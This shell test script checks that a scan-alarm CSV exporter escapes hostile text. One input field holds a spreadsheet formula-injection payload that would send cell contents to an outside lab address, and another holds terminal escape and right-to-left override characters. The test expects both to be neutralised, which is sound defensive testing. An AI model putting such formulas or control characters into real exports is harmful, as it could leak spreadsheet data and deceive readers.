#!/bin/sh
# The table is read by another program as it was meant, hostile text too.
. "${0%/*}/../lib.sh"
. "${0%/*}/../looks.sh"
need sqlite3

look look a1 2024-11-22T10:00:00.000Z 22,6379 complete \
	198.18.0.1:22:open 198.18.0.9:6379:open 198.18.0.9:22:closed
evil='=HYPERLINK(\"http://198.18.0.66/?\"&A1,\"a, b\")'
{
	cat look
	printf '{"network":"lab","ts":"2024-11-22T10:00:01.000Z",'
	printf '"type":"alarm.start","v":1}\n'
	printf '{"code":"E02","condition":"true","episode":1,"event":"opened",'
	printf '"id":"ab-1","ip":"198.18.0.9","key":"ab","network":"lab",'
	printf '"port":6379,"proto":"tcp","reason":"%s",' "$evil"
	printf '"rule":"risky-port","severity":"high","state":"open",'
	printf '"summary":"a\\nb \\u001b[31m \\u202e","ts":'
	printf '"2024-11-22T10:00:01.000Z","type":"alarm","v":1,'
	printf '"vantage":"inside"}\n'
} >in
frame in alarm 1 ',"status":"ok"'
run 0 mipo-export csv in
like out "$(printf '\r')\$"
eq "lines without CR" "$(grep -vc "$(printf '\r')\$" out || :)" 0

tr -d '\r' <out >unix
printf '.import --csv unix t\n' | sqlite3 db
ask() {
	sqlite3 db "$1"
}
eq kinds "$(ask 'select group_concat(row, " ") from t')" \
	"boundary observation observation observation look alarm end"
eq redis "$(ask "select ip, port, service, risky, state from t
	where row = 'observation' and port = '6379'")" \
	'198.18.0.9|6379|redis|yes|open'
eq look "$(ask "select scan, verdict, signed, kind from t
	where row = 'look'")" "$(id32 a1)|complete|none|syn"
eq formula "$(ask "select reason from t where row = 'alarm'")" \
	"'=HYPERLINK(\"http://198.18.0.66/?\"&A1,\"a, b\")"
eq hostile "$(ask "select text from t where row = 'alarm'")" \
	'a\x0ab \x1b[31m \u202e'
eq columns "$(ask "select count(*) from pragma_table_info('t')")" 22
has out '5 rows between the boundary and this one; the input was whole'
